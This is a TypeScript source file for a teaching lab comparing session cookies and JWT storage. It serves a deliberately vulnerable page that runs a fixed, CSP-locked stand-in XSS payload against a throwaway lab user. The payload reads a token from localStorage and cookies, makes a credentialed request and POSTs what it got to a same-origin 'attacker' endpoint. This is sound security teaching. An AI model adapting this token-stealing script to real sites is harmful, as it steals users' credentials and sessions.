import { createHash } from "node:crypto";

/**
 * The storage lab's deliberately vulnerable page, served as plain HTML by
 * GET /api/labs/storage/victim. Isolated on purpose: its own path, its own CSP (which allows
 * exactly these two inline scripts by hash and nothing else), and no real credential — the
 * token it keeps belongs to a throwaway lab user. The "injected" script is FIXED, not taken
 * from the request: it stands for a stored XSS payload, so the page can never run anyone's
 * script but this one, which only touches the lab's own endpoints.
 */

export const LAB_TOKEN_KEY = "svj-lab-token";
export const READABLE_COOKIE = "svj-lab-readable";
export const HTTPONLY_COOKIE = "svj-lab-httponly";
export const LAB_COOKIE_PATH = "/api/labs/storage";

/** What the page's own code does: keep the token it was handed in localStorage. */
const APP_SCRIPT = `const p=new URLSearchParams(location.hash.slice(1));const t=p.get("token");if(t){localStorage.setItem("${LAB_TOKEN_KEY}",t);history.replaceState(null,"",location.pathname);}`;

/** The attacker's payload: read what it can, send it away, then ride the cookie it cannot read. */
const INJECTED_SCRIPT = `(async()=>{const c=(n)=>{const m=document.cookie.match(new RegExp("(?:^|; )"+n+"=([^;]*)"));return m?decodeURIComponent(m[1]):null};
const grab={localStorage:localStorage.getItem("${LAB_TOKEN_KEY}"),readableCookie:c("${READABLE_COOKIE}"),httpOnlyCookie:c("${HTTPONLY_COOKIE}")};
const ride=await fetch("${LAB_COOKIE_PATH}/whoami",{credentials:"same-origin"}).then(r=>r.status).catch(()=>null);
const got=await fetch("${LAB_COOKIE_PATH}/attacker",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({grab,rideStatus:ride})}).then(r=>r.json()).catch(()=>null);
const out=document.getElementById("result");if(!got||!got.verdicts){out.textContent="The attacker endpoint did not answer.";return}
for(const v of got.verdicts){const tr=document.createElement("tr");[v.what,v.outcome,v.headline].forEach((x,i)=>{const td=document.createElement("td");td.textContent=x;if(i===1)td.className="outcome "+x;tr.appendChild(td)});out.appendChild(tr)}
document.getElementById("status").textContent="Done: the injected script ran.";})();`;

const hash = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

export const VICTIM_CSP = [
  "default-src 'none'",
  `script-src ${hash(APP_SCRIPT)} ${hash(INJECTED_SCRIPT)}`,
  "connect-src 'self'",
  "style-src 'unsafe-inline'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
].join("; ");

/**
 * The site's look in plain CSS (the page shares none of the app's stylesheet, on purpose): the
 * same type, a card for the result, and the outcome coloured as the lab verdicts are — red for
 * what the attacker got, green for what held. The words carry the meaning; colour repeats it.
 */
const VICTIM_STYLE = [
  "body{font:15px/1.5 system-ui,sans-serif;color:#0f172a;background:#f8fafc;max-width:52rem;margin:2rem auto;padding:0 1rem}",
  ".lab{font-size:12px;color:#64748b;margin:0}",
  "h1{font-size:1.6rem;letter-spacing:-.01em;margin:.25rem 0 1rem}",
  "code{font-family:ui-monospace,monospace;font-size:.9em;background:#e2e8f0;border-radius:4px;padding:0 .25em}",
  "#status{border:1px solid #cbd5e1;background:#fff;border-radius:8px;padding:.6rem .9rem;font-weight:600}",
  "table{width:100%;border-collapse:collapse;background:#fff;border:1px solid #e2e8f0;border-radius:12px;margin-top:1rem;font-size:14px}",
  "caption{text-align:left;font-weight:600;padding:.5rem 0}",
  "th{font-size:12px;color:#64748b;font-weight:500}",
  "td,th{border-top:1px solid #e2e8f0;padding:.5rem .75rem;text-align:left;vertical-align:top}",
  ".outcome{font-weight:600;white-space:nowrap}",
  ".outcome.stolen,.outcome.rode_the_cookie{color:#b91c1c}",
  ".outcome.not_readable,.outcome.could_not_ride{color:#047857}",
  "a{color:#0f172a;text-underline-offset:3px}",
].join("");

export function victimPage(): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Lab: a page with an injected script</title>
<style>${VICTIM_STYLE}</style></head>
<body><p class="lab">Session vs JWT · storage lab · a deliberately vulnerable page</p><h1>A page with an injected script</h1>
<p>This page keeps one throwaway user's access token three ways: in <code>localStorage</code>, in a cookie readable by script, and in an httpOnly cookie. A script an attacker managed to inject (fixed here, standing for a stored XSS) tries to read each and send it to an attacker endpoint, then calls this site without reading anything.</p>
<p id="status" role="status">Running the injected script…</p>
<table><caption>What the injected script got</caption><thead><tr><th scope="col">where</th><th scope="col">outcome</th><th scope="col">what happened</th></tr></thead><tbody id="result"></tbody></table>
<p><a href="/labs/storage">Back to the lab</a></p>
<script>${APP_SCRIPT}</script>
<script>${INJECTED_SCRIPT}</script>
</body></html>`;
}
